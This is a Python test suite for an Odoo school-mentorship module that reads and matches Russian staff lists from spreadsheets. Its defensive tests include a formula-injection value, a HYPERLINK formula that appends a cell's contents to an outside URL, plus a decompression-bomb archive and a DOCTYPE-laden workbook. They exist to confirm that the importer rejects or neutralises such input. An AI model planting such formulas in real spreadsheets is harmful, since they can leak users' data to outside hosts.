import datetime
import functools
import io
import zipfile

import openpyxl
import xlwt
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from odoo.tests import BaseCase, tagged

from odoo.addons.school_mentorship.tools import (
    former_names,
    spreadsheet,
    staff_list,
    staff_match,
    staff_template,
)
from odoo.addons.school_mentorship.tools import staff_values as values

from . import staff_lists

DAY = datetime.date(2026, 11, 22)
tried = functools.partial(
    settings(
        max_examples=150,
        deadline=None,
        database=None,
        derandomize=True,
        suppress_health_check=list(HealthCheck),
    )
)


def read(content, **kwargs):
    """The list on the first sheet of a file."""
    if isinstance(content, list):
        content = staff_lists.workbook(content)
    return staff_list.read_list(spreadsheet.read(content)[0], DAY, **kwargs)


def bad(reader, *args, **kwargs):
    """The kind of the error that a reader raises."""
    try:
        return f"read: {reader(*args, **kwargs)!r}"
    except values.BadValue as error:
        return error.kind


@tagged("post_install", "-at_install")
class TestStaffValues(BaseCase):
    """What people write into the cells of a staff list."""

    def test_names(self):
        """Any case, any order of the words, brackets, posts behind the name."""
        for text, full in (
            ("Иванова Мария Ивановна", "Иванова Мария Ивановна"),
            ("ИВАНОВА МАРИЯ ИВАНОВНА", "Иванова Мария Ивановна"),
            ("  иванова   мария\u00a0ивановна ", "Иванова Мария Ивановна"),
            ("Мария Ивановна Петрова", "Петрова Мария Ивановна"),
            ("Иванова\nМария Ивановна", "Иванова Мария Ивановна"),
            ("12. Иванова Мария Ивановна", "Иванова Мария Ивановна"),
            ("Иванова Мария Ивановна (декрет)", "Иванова Мария Ивановна"),
            ("Иванова Мария Ивановна, учитель", "Иванова Мария Ивановна"),
            ("Ивaнoва Мария Ивановна", "Иванова Мария Ивановна"),  # Latin a, o
            ("Петрова М. И.", "Петрова М.И."),
            ("ПетроваМ.И.", "Петрова М.И."),
            ("М.И. Петрова", "Петрова М.И."),
            ("Петрова М И", "Петрова М.И."),
            ("Мамедов Рашид Али оглы", "Мамедов Рашид Али оглы"),
            ("Петров-Водкин Кузьма Сергеевич", "Петров-Водкин Кузьма Сергеевич"),
            ("Smith John", "Smith John"),
        ):
            with self.subTest(text=text):
                self.assertEqual(values.read_name(text).full, full)
        for text in ("вакансия", "Иванова", "12", "И.И.", "Директор школы", "—"):
            with self.subTest(text=text):
                self.assertEqual(bad(values.read_name, text), "not_a_name")
        self.assertEqual(bad(values.read_name, "  "), "no_name")
        self.assertEqual(bad(values.read_name, "#Н/Д"), "formula")

    def test_name_of_before(self):
        """A surname in brackets behind the surname is the one of before."""
        name = values.read_name("Петрова (Сидорова) Мария Ивановна")
        self.assertEqual(name.full, "Петрова Мария Ивановна")
        self.assertEqual(name.former, "Сидорова Мария Ивановна")
        self.assertEqual(
            values.read_name("Петрова Мария Ивановна (Сидорова)").former,
            "Сидорова Мария Ивановна",
        )

    def test_dates(self):
        """Dates as typed, as Excel numbers them, in words; «31.02» is none."""
        first = datetime.date(2015, 9, 1)
        for value in (
            first,
            datetime.datetime(2015, 9, 1, 12),
            42248,
            42248.0,
            "01.09.2015",
            "1.9.15",
            "01/09/2015",
            "2015-09-01",
            "1 сентября 2015 г.",
            "с 01.09.2015г.",
            "Приказ от 01.09.2015",
        ):
            with self.subTest(value=value):
                self.assertEqual(values.read_date(value, latest=DAY), first)
        for value, kind in (
            ("31.02.2015", "no_such_day"),
            ("30 февраля 2015", "no_such_day"),
            ("31.02", "no_date"),
            ("2015", "no_date"),
            ("давно", "no_date"),
            ("01.09.2027", "too_late"),
            ("01.09.1820", "too_early"),
            ("01.09.2015, 01.09.2020", "several_dates"),
        ):
            with self.subTest(value=value):
                self.assertEqual(bad(values.read_date, value, latest=DAY), kind)
        for value in ("-", "нет", 0, None, ""):
            self.assertIsNone(values.read_date(value, latest=DAY))

    def test_experience(self):
        """A number of years, years and months, a date, a year, none."""
        for value, since in (
            (12, "2014-11-22"),
            (12.5, "2014-05-22"),
            ("12 лет", "2014-11-22"),
            ("12 лет 3 мес.", "2014-08-22"),
            ("5 мес", "2026-06-22"),
            ("1 год", "2025-11-22"),
            ("01.09.2010", "2010-09-01"),
            ("с 2010 г.", "2010-09-01"),
            ("2010", "2010-09-01"),
            ("сентябрь 2015", "2015-09-01"),
            ("б/с", "2026-11-22"),
            ("молодой специалист", "2026-11-22"),
            (0, "2026-11-22"),
        ):
            with self.subTest(value=value):
                found = values.read_experience(value, day=DAY)
                self.assertEqual(str(found.since), since)
        for value, kind in (
            ("31.02.2010", "no_such_day"),
            ("25/20", "experience"),
            ("много", "experience"),
            (99, "experience"),
            ("01.09.2030", "too_late"),
        ):
            with self.subTest(value=value):
                self.assertEqual(bad(values.read_experience, value, day=DAY), kind)

    def test_categories(self):
        """Categories in all their wordings, with or without a date."""
        for value, key in (
            ("высшая", "highest"),
            ("Высшая кв. категория", "highest"),
            ("ВКК", "highest"),
            ("I", "first"),
            (1, "first"),
            ("1 кв. кат.", "first"),
            ("первая", "first"),
            ("СЗД", "fit"),
            ("соответствие занимаемой должности", "fit"),
            ("соотв.", "fit"),
            ("б/к", "none"),
            ("без категории", "none"),
            ("-", "none"),
            ("педагог-методист", "methodist"),
            ("педагог-наставник", "mentor"),
        ):
            with self.subTest(value=value):
                self.assertEqual(values.read_category(value, latest=DAY).key, key)
        given = values.read_category("высшая, 25.03.2022", latest=DAY)
        self.assertEqual(
            (given.date, given.is_until), (datetime.date(2022, 3, 25), False)
        )
        until = values.read_category(
            "первая до 28.02.2027", latest=datetime.date(2036, 1, 1)
        )
        self.assertTrue(until.is_until)
        for value, kind in (("вторая", "second_category"), ("чепуха", "category")):
            self.assertEqual(bad(values.read_category, value, latest=DAY), kind)

    def test_end_of_category(self):
        """Five years by the old rules; without an end since 1 September 2023."""
        day = datetime.date
        self.assertEqual(
            values.category_end("highest", day(2022, 3, 25)), day(2027, 3, 25)
        )
        self.assertEqual(
            values.category_end("first", day(2020, 2, 29)), day(2025, 2, 28)
        )
        self.assertIsNone(values.category_end("highest", day(2023, 9, 1)))
        self.assertEqual(values.category_end("fit", day(2024, 1, 1)), day(2029, 1, 1))

    def test_positions(self):
        """Posts in any case and wording, the subject from another column."""
        for value, subject, post in (
            ("УЧИТЕЛЬ НАЧ. КЛ.", None, "учитель начальных классов"),
            ("Зам. директора по УВР", None, "заместитель директора по УВР"),
            ("ЗАМЕСТИТЕЛЬ ДИРЕКТОРА ПО УВР", None, "заместитель директора по УВР"),
            ("зам.дир. по ВР", None, "заместитель директора по ВР"),
            ("Соц. педагог", None, "социальный педагог"),
            ("Педагог - психолог", None, "педагог-психолог"),
            ("ПДО", None, "педагог дополнительного образования"),
            ("учитель  обж.", None, "учитель ОБЖ"),
            (
                "Учитель рус. яз. и лит-ры",
                None,
                "учитель русского языка и литературы",
            ),
            ("Учитель", "Математика", "учитель математики"),
            ("учитель", "математика, физика", "учитель математики и физики"),
            ("Учитель физики", "Физика", "учитель физики"),
            ("учитель", "что-то новое", "учитель"),
            ("директор", "история", "директор"),
            ("Учитель-логопед", None, "учитель-логопед"),
            (None, None, ""),
        ):
            with self.subTest(value=value):
                self.assertEqual(values.clean_position(value, subject), post)

    def test_mail_and_telephone(self):
        """An address and a number, or a sentence about them."""
        self.assertEqual(values.read_email(" Ivanova@School.RU "), "ivanova@school.ru")
        self.assertEqual(values.read_phone("8 (912) 345-67-89"), "+7 912 345-67-89")
        self.assertEqual(values.read_phone(89123456789.0), "+7 912 345-67-89")
        self.assertEqual(values.read_phone("45-67-89"), "45-67-89")
        self.assertEqual(bad(values.read_email, "иванова@"), "email")
        self.assertEqual(bad(values.read_email, "a@b.ru, c@d.ru"), "email")
        self.assertEqual(bad(values.read_phone, "у секретаря"), "phone")

    def test_roles(self):
        """«наставник», «наставляемый», both, «+»."""
        self.assertEqual(values.read_role("Наставник"), {"mentor"})
        self.assertEqual(values.read_role("наставляемая"), {"mentee"})
        self.assertEqual(
            values.read_role("наставник, наставляемый"), {"mentor", "mentee"}
        )
        self.assertEqual(values.read_role(None), set())
        self.assertEqual(bad(values.read_role, "Иванова М.И."), "role")
        self.assertTrue(values.read_flag("+"))
        self.assertFalse(values.read_flag("нет"))
        self.assertEqual(bad(values.read_flag, "Иванова М.И."), "flag")

    def test_former_names(self):
        """Names of before: kept once, with the day, read without it."""
        text = former_names.add_name("", "Смирнова Анна Петровна", DAY)
        self.assertEqual(text, "Смирнова Анна Петровна (до 22.11.2026)")
        again = former_names.add_name(text, "СМИРНОВА Анна Петровна", DAY)
        self.assertEqual(again, text)
        self.assertEqual(former_names.names_in(text), ("Смирнова Анна Петровна",))
        for old, new, renamed in (
            ("Смирнова Анна Петровна", "Белова Анна Петровна", True),
            ("Смирнова Анна Петровна", "Смирнова-Белова Анна Петровна", True),
            ("Смирнава Анна Петровна", "Смирнова Анна Петровна", False),
            ("Семенов Пётр Ильич", "Семёнов Пётр Ильич", False),
            ("Смирнова Анна Петровна", "Орлов Денис Олегович", False),
            ("Смирнова Анна", "Смирнова Анна Петровна", False),
        ):
            with self.subTest(new=new):
                self.assertEqual(former_names.is_renaming(old, new), renamed)


@tagged("post_install", "-at_install")
class TestStaffList(BaseCase):
    """Three kinds of lists, and what else happens to a list."""

    def test_tariff_list(self):
        """Title, header of two rows, sections, a second post, a line to sign."""
        found = read(staff_lists.tariff_list())
        self.assertEqual(found.header_row, 4)
        self.assertEqual(
            {column.letter: column.field for column in found.columns},
            {
                "A": None,
                "B": "name",
                "C": "position",
                "D": "subject",
                "E": None,
                "F": "experience",
                "G": "category",
                "H": "category_date",
                "I": "role",
                "J": None,
            },
        )
        self.assertEqual(
            [person.name for person in found.people],
            [
                "Белова Елена Николаевна",
                "Лебедева Анна Юрьевна",
                "Иванова Ирина Ивановна",
                "Петров Петр Петрович",
            ],
        )
        self.assertEqual(
            found.people[2].position,
            "учитель математики, педагог дополнительного образования",
        )
        self.assertFalse([p.problems for p in found.people if p.problems])
        self.assertEqual(
            [text for _row, text in found.left_out][1:],
            [
                "Начальная школа",
                "Основная и старшая школа",
                "вакансия",
                "Заместитель директора",
            ],
        )

    def test_clerk_list(self):
        """Three columns for the name."""
        people = read(staff_lists.clerk_list()).people
        self.assertEqual(people[0].name, "Соколова Ольга Игоревна")
        self.assertEqual(people[0].hire_date, datetime.date(2019, 8, 20))
        self.assertEqual(people[2].name, "Каримов Тимур Рашид оглы")
        self.assertEqual(people[3].name, "Жукова Вера")

    def test_single_column(self):
        """One column, no header: names and posts are told apart."""
        people = read(staff_lists.single_column()).people
        self.assertEqual(len(people), 4)
        self.assertEqual(people[1].position, "заместитель директора по УВР")

    def test_template_is_understood(self):
        """Our own table: every column is understood, nobody is in it yet."""
        content = staff_template.template(["Студент"], ["Классное руководство"])
        sheets = spreadsheet.read(content)
        self.assertEqual([s.name for s in sheets], ["Работники", "Как заполнить"])
        header_row, columns = staff_list.columns_of(sheets[0])
        self.assertEqual(header_row, 1)
        self.assertTrue(all(column.field for column in columns))
        self.assertFalse(staff_list.read_list(sheets[0], DAY).people)

    def test_cell_of_an_error(self):
        """Each error names its cell; the rest of the list is read."""
        people = read(
            [
                ["ФИО", "Стаж", "Категория", "E-mail"],
                ["Белова Анна Ивановна", "31.02.2010", "чепуха", "не знаю"],
                ["Белов Иван Иванович", 5, "первая", "belov@school.ru"],
                ["Белова", 5, "первая", None],
                [None, 5, "первая", None],
            ]
        ).people
        self.assertEqual(
            [[(p.kind, p.cell) for p in person.problems] for person in people],
            [
                [("no_such_day", "B2"), ("category", "C2"), ("email", "D2")],
                [],
                [("not_a_name", "A4")],
                [("no_name", "A5")],
            ],
        )

    def test_empty_column(self):
        """A column without a value or without a header does no harm."""
        found = read(
            [
                ["ФИО", "Должность", None, "Стаж"],
                ["Белова Анна Ивановна", None, None, 3],
                ["Орлов Денис Олегович", None, None, 4],
            ]
        )
        self.assertEqual([p.position for p in found.people], ["", ""])
        self.assertEqual([p.years for p in found.people], [3, 4])

    def test_years_that_excel_took_for_a_date(self):
        """«12.5» became 12 May: refused among numbers of years."""
        people = read(
            [
                ["ФИО", "Стаж"],
                ["Белова Анна Ивановна", 3],
                ["Орлов Денис Олегович", datetime.datetime(2026, 5, 12)],
                ["Яшина Дарья Львовна", 7],
            ]
        ).people
        self.assertEqual(people[1].problems[0].kind, "number_as_date")

    def test_column_of_names_of_mentors(self):
        """«Наставник» with names is no column of yes and no."""
        found = read(
            [
                ["ФИО", "Наставник"],
                ["Белова Анна Ивановна", "Орлов Денис Олегович"],
                ["Яшина Дарья Львовна", "Орлов Денис Олегович"],
            ]
        )
        self.assertIsNone(found.columns[1].field)
        self.assertFalse(any(person.roles for person in found.people))

    def test_chosen_columns(self):
        """What the user says about the columns wins over the header."""
        found = read(
            [
                ["Кто", "Кем", "Когда"],
                ["Белова Анна Ивановна", "учитель", "01.09.2015"],
            ],
            mapping={1: "name", 2: "position", 3: "hire_date"},
        )
        self.assertEqual(found.people[0].position, "учитель")
        self.assertEqual(found.people[0].hire_date, datetime.date(2015, 9, 1))
        with self.assertRaises(staff_list.NoNames):
            read([["Кабинет", "Этаж"], [1, 2]])

    def test_merged_posts(self):
        """One merged post for several people belongs to each of them."""
        content = staff_lists.workbook(
            [
                ["ФИО", "Должность"],
                ["Белова Анна Ивановна", "учитель"],
                ["Орлов Денис Олегович", None],
            ],
            ["B2:B3"],
        )
        self.assertEqual([p.position for p in read(content).people], ["учитель"] * 2)


@tagged("post_install", "-at_install")
class TestSpreadsheet(BaseCase):
    """Files that are not what they say."""

    def _kind(self, content):
        try:
            return spreadsheet.read(content)
        except spreadsheet.FileProblem as problem:
            return problem.kind

    @staticmethod
    def _zip(**parts):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            for name, text in parts.items():
                archive.writestr(name.replace("__", "/").replace("_", "."), text)
        return buffer.getvalue()

    def test_what_it_is_instead(self):
        """Each kind of wrong file is named."""
        good = staff_lists.single_column()
        for content, kind in (
            (b"", "empty"),
            (b"   \r\n", "empty"),
            (b"%PDF-1.7 ...", "pdf"),
            (b"\x89PNG\r\n\x1a\n....", "picture"),
            (b"{\\rtf1 }", "word"),
            (b"<html><table></table></html>", "web_page"),
            (b'<?xml version="1.0"?><Workbook xmlns="urn:spreadsheet"/>', "old_xml"),
            (b"\x00\x01\x02 binary", "unknown"),
            (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 nothing", "broken"),
            (
                b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
                + "EncryptedPackage".encode("utf-16-le"),
                "password",
            ),
            (good[: len(good) // 2], "broken"),
            (self._zip(word__document_xml="<x/>"), "word"),
            (
                self._zip(mimetype="application/vnd.oasis.opendocument.spreadsheet"),
                "opendocument",
            ),
            (self._zip(xl__workbook_xml="<x/>"), "broken"),
            (self._zip(xl__workbook_xml="<!DOCTYPE x><x/>"), "broken"),
            (self._zip(a_txt="a"), "unknown"),
            (staff_lists.workbook([]), "no_sheet"),
            (b"x" * (spreadsheet.MAX_BYTES + 1), "too_big"),
        ):
            with self.subTest(kind=kind, start=content[:20]):
                self.assertEqual(self._kind(content), kind)

    def test_too_many_rows(self):
        """50 000 rows are no school's staff; known without reading them all."""
        content = "ФИО;Должность\n" + "Белова Анна Ивановна;учитель\n" * 50000
        self.assertEqual(self._kind(content.encode()), "too_many_rows")

    def test_unpacks_to_too_much(self):
        """An archive that grows without measure is not unpacked."""
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("xl/workbook.xml", b"0" * (spreadsheet.MAX_UNPACKED + 1))
        self.assertEqual(self._kind(buffer.getvalue()), "too_big")

    def test_csv(self):
        """CSV in the encodings and with the separators of Russian Excel."""
        text = "ФИО;Должность\nБелова Анна Ивановна;учитель\n"
        for encoding in ("utf-8", "utf-8-sig", "cp1251", "utf-16"):
            for mark in (";", "\t", ","):
                with self.subTest(encoding=encoding, mark=mark):
                    content = text.replace(";", mark).encode(encoding)
                    (sheet,) = spreadsheet.read(content)
                    self.assertEqual(sheet.rows[1], ["Белова Анна Ивановна", "учитель"])

    def test_a_million_formatted_rows(self):
        """Rows that are only formatted neither count nor take time."""
        book = openpyxl.Workbook(write_only=True)
        sheet = book.create_sheet("Список")
        sheet.append(["ФИО"])
        sheet.append(["Белова Анна Ивановна"])
        for _row in range(20000):
            sheet.append([None, ""])
        buffer = io.BytesIO()
        book.save(buffer)
        (found,) = spreadsheet.read(buffer.getvalue())
        self.assertEqual(len(found.rows), 2)

    def test_old_excel(self):
        """A list in the format before 2007, with a merged name and a date."""
        book = xlwt.Workbook()
        sheet = book.add_sheet("Кадры")
        for column, header in enumerate(("ФИО", "Должность", "Дата приёма", "Стаж")):
            sheet.write(0, column, header)
        sheet.write_merge(1, 2, 0, 0, "Белова Анна Ивановна")
        sheet.write(1, 1, "учитель")
        style = xlwt.easyxf(num_format_str="DD.MM.YYYY")
        sheet.write(1, 2, datetime.date(2015, 9, 1), style)
        sheet.write(1, 3, 12.0)
        sheet.write(2, 1, "педагог-организатор")
        buffer = io.BytesIO()
        book.save(buffer)
        (person,) = read(buffer.getvalue()).people
        self.assertEqual(person.position, "учитель, педагог-организатор")
        self.assertEqual(person.hire_date, datetime.date(2015, 9, 1))
        self.assertEqual(person.years, 12)

    def test_hidden_sheets(self):
        """What is hidden is not read."""
        book = openpyxl.Workbook()
        book.active.append(["ФИО"])
        book.create_sheet("Скрыто").append(["секрет"])
        book["Скрыто"].sheet_state = "hidden"
        buffer = io.BytesIO()
        book.save(buffer)
        self.assertEqual(len(spreadsheet.read(buffer.getvalue())), 1)

    @tried
    @given(st.binary(max_size=400))
    def test_any_bytes(self, content):
        """Whatever the file, it is a table or one of the known problems."""
        for start in (b"", b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"):
            self.assertIsInstance(self._kind(start + content), list | str)


@tagged("post_install", "-at_install")
class TestStaffMatch(BaseCase):
    """Who of the list is who of the staff."""

    def _known(self, *people):
        return [
            staff_match.Known(id=number, **person)
            for number, person in enumerate(people, 1)
        ]

    def _match(self, known, *people):
        rows = [
            staff_list.Person(row=number, **person)
            for number, person in enumerate(people, 2)
        ]
        return staff_match.match(rows, self._known(*known))

    def test_same_person(self):
        """ё and е, capital letters, the order of the words make no difference."""
        known = [{"name": "Семёнова Алёна Петровна", "position": "учитель"}]
        for name in (
            "Семенова Алена Петровна",
            "СЕМЁНОВА АЛЁНА ПЕТРОВНА",
            "Алёна Петровна Семёнова",
            "Семенова А.П.",
            "Семёнова Алёна",
        ):
            with self.subTest(name=name):
                (match,) = self._match(known, {"name": name})
                self.assertEqual((match.kind, match.ids), ("found", (1,)))

    def test_two_of_one_name(self):
        """Namesakes are told apart by their posts, or asked about."""
        known = [
            {"name": "Иванова Мария Ивановна", "position": "учитель физики"},
            {"name": "Иванова Мария Ивановна", "position": "учитель химии"},
        ]
        (one,) = self._match(
            known, {"name": "Иванова Мария Ивановна", "position": "Учитель химии"}
        )
        self.assertEqual((one.kind, one.ids), ("found", (2,)))
        (unclear,) = self._match(known, {"name": "Иванова Мария Ивановна"})
        self.assertEqual((unclear.kind, unclear.ids), ("namesakes", (1, 2)))
        both = self._match(
            known,
            {"name": "Иванова Мария Ивановна", "position": "учитель химии"},
            {"name": "Иванова Мария Ивановна", "position": "учитель физики"},
        )
        self.assertEqual([m.ids for m in both], [(2,), (1,)])

    def test_another_birthday(self):
        """A namesake with another birthday is not taken for the person."""
        known = [
            {"name": "Иванова Мария Ивановна", "birthday": datetime.date(1980, 1, 1)}
        ]
        (match,) = self._match(
            known,
            {"name": "Иванова Мария Ивановна", "birthday": datetime.date(1999, 1, 1)},
        )
        self.assertEqual(match.kind, "namesakes")

    def test_twice_in_the_list(self):
        """The same row again is left out, other facts are asked about."""
        name = {"name": "Орлов Денис Олегович"}
        matches = self._match(
            [],
            {**name, "position": "учитель"},
            {**name, "position": "учитель"},
            {**name, "position": "педагог-организатор"},
        )
        self.assertEqual([m.kind for m in matches], ["new", "repeated", "twice"])
        self.assertEqual([m.row for m in matches], [0, 2, 2])

    def test_married(self):
        """Another surname, the rest agrees: asked about; nothing agrees: new."""
        known = [{"name": "Смирнова Анна Петровна", "position": "учитель физики"}]
        (match,) = self._match(
            known, {"name": "Белова Анна Петровна", "position": "Учитель физики"}
        )
        self.assertEqual((match.kind, match.ids), ("renamed", (1,)))
        (other,) = self._match(
            known, {"name": "Белова Анна Петровна", "position": "бухгалтер"}
        )
        self.assertEqual(other.kind, "new")
        hired = datetime.date(2019, 8, 20)
        (by_day,) = self._match(
            [{**known[0], "hire_date": hired}],
            {"name": "Белова Анна Петровна", "hire_date": hired},
        )
        self.assertEqual(by_day.kind, "renamed")
        # Who stands in the list under the old name has not changed it.
        both = self._match(
            known,
            {"name": "Белова Анна Петровна", "position": "учитель физики"},
            {"name": "Смирнова Анна Петровна", "position": "учитель физики"},
        )
        self.assertEqual([m.kind for m in both], ["new", "found"])

    def test_name_of_before(self):
        """A list that still has the maiden name, or has both, is understood."""
        known = [
            {"name": "Белова Анна Петровна", "former": ("Смирнова Анна Петровна",)}
        ]
        (match,) = self._match(known, {"name": "Смирнова Анна Петровна"})
        self.assertEqual((match.kind, match.by_former), ("found", True))
        (bracket,) = self._match(
            [{"name": "Смирнова Анна Петровна"}],
            {"name": "Белова Анна Петровна", "former": "Смирнова Анна Петровна"},
        )
        self.assertEqual((bracket.kind, bracket.ids), ("found", (1,)))

    def test_slip_of_the_pen(self):
        """One letter is asked about; «Иванов» and «Иванова» are two people."""
        (match,) = self._match(
            [{"name": "Петрова Анна Викторовна"}], {"name": "Петрова Анна Викторвна"}
        )
        self.assertEqual(match.kind, "similar")
        (other,) = self._match(
            [{"name": "Иванов Женя Петрович"}], {"name": "Иванова Женя Петрович"}
        )
        self.assertEqual(other.kind, "new")

    def test_initials_of_two(self):
        """Initials that fit two people are asked about."""
        (match,) = self._match(
            [{"name": "Иванова Мария Ивановна"}, {"name": "Иванова Майя Игоревна"}],
            {"name": "Иванова М.И."},
        )
        self.assertEqual((match.kind, match.ids), ("initials", (1, 2)))

    def test_left_before(self):
        """Somebody who had left and comes back is asked about."""
        (match,) = self._match(
            [{"name": "Орлов Денис Олегович", "active": False}],
            {"name": "Орлов Денис Олегович"},
        )
        self.assertEqual((match.kind, match.ids), ("left_before", (1,)))


words = st.text("абвгдежзиклмнопрстуАБВГДЕЖЗ", min_size=1, max_size=8)
names = st.one_of(
    st.lists(words, min_size=1, max_size=4).map(" ".join),
    st.sampled_from(
        ("Иванова Мария Ивановна", "Петров Пётр Ильич", "Петров П.И.", "Иванова М.")
    ),
    st.text(max_size=20),
)
cells = st.one_of(
    st.none(),
    st.integers(-10, 60000),
    st.floats(allow_nan=True, allow_infinity=True),
    st.datetimes(),
    st.dates(),
    st.text(max_size=15),
    names,
    st.sampled_from(
        ("ФИО", "Должность", "Стаж", "Категория", "Наставник", "31.02.2020", "#Н/Д")
    ),
)


@tagged("post_install", "-at_install")
class TestAnyStaffList(BaseCase):
    """What must hold for any list at all."""

    @tried
    @given(st.lists(st.lists(cells, max_size=6), max_size=12), st.booleans())
    def test_any_table(self, rows, with_header):
        """Any table is read, or has no names; every error has its cell."""
        if with_header:
            rows = [["ФИО", "Должность", "Стаж", "Категория", "Роль"], *rows]
        try:
            found = staff_list.read_list(spreadsheet.Sheet("", rows), DAY)
        except staff_list.NoNames:
            return
        seen = [person.row for person in found.people]
        self.assertEqual(seen, sorted(set(seen)))
        for person in found.people:
            self.assertLessEqual(person.row, len(rows))
            for problem in person.problems:
                self.assertRegex(problem.cell, rf"^[A-Z]*{person.row}$")
            if person.since:
                self.assertLessEqual(person.since, DAY)
        # No row is lost: it is a person, a second post, or said to be left out.
        out = {row for row, _text in found.left_out}
        self.assertFalse(out & set(seen))

    @tried
    @given(names)
    def test_name_read_again(self, text):
        """A name that was read is read the same."""
        try:
            name = values.read_name(text)
        except values.BadValue:
            return
        self.assertEqual(values.read_name(name.full).full, name.full)

    @tried
    @given(st.text(max_size=40))
    def test_position_cleaned_again(self, text):
        """A cleaned post stays as it is."""
        try:
            post = values.clean_position(text)
        except values.BadValue:
            return
        self.assertEqual(values.clean_position(post), post)

    @tried
    @given(st.lists(names, max_size=8), st.lists(names, max_size=8))
    def test_any_match(self, listed, staff):
        """Nobody is found twice, every row has a match."""
        people = [
            staff_list.Person(row=number, name=name)
            for number, name in enumerate(listed, 2)
        ]
        known = [
            staff_match.Known(id=number, name=name)
            for number, name in enumerate(staff, 1)
        ]
        matches = staff_match.match(people, known)
        self.assertEqual(len(matches), len(people))
        found = [match.ids[0] for match in matches if match.kind == "found"]
        self.assertEqual(len(found), len(set(found)))

    @tried
    @given(
        st.lists(
            st.tuples(
                st.sampled_from(("Иванова", "Белова", "Яшина", "Орлова", "Щукина")),
                st.sampled_from(("Мария", "Анна", "Ольга")),
                st.sampled_from(("Ивановна", "Петровна", "Львовна")),
            ),
            unique=True,
            max_size=15,
        ),
        st.randoms(use_true_random=False),
    )
    def test_a_list_finds_itself(self, people, random):
        """The staff's own list, shuffled and spelled anew, changes nothing."""
        known = [
            staff_match.Known(id=number, name=" ".join(parts))
            for number, parts in enumerate(people, 1)
        ]
        rows = [
            staff_list.Person(
                row=person.id + 1,
                name=values.read_name(
                    random.choice((person.name, person.name.upper()))
                ).full,
            )
            for person in known
        ]
        order = random.sample(range(len(rows)), len(rows))
        matches = staff_match.match([rows[index] for index in order], known)
        self.assertEqual(
            [match.ids for match in matches], [(index + 1,) for index in order]
        )


@tagged("post_install", "-at_install")
class TestTemplate(BaseCase):
    """The empty table holds words only."""

    def test_no_formulas(self):
        """A name of an area that begins with «=» is a name."""
        evil = '=HYPERLINK("http://example.org/"&A2,"Робототехника")'
        content = staff_template.template([evil], [evil, "+1", "@SUM(1)"])
        book = openpyxl.load_workbook(io.BytesIO(content))
        texts = [c for sheet in book for row in sheet for c in row if c.value]
        self.assertEqual(sum(cell.value == evil for cell in texts), 2)
        self.assertFalse([cell for cell in texts if cell.data_type == "f"])
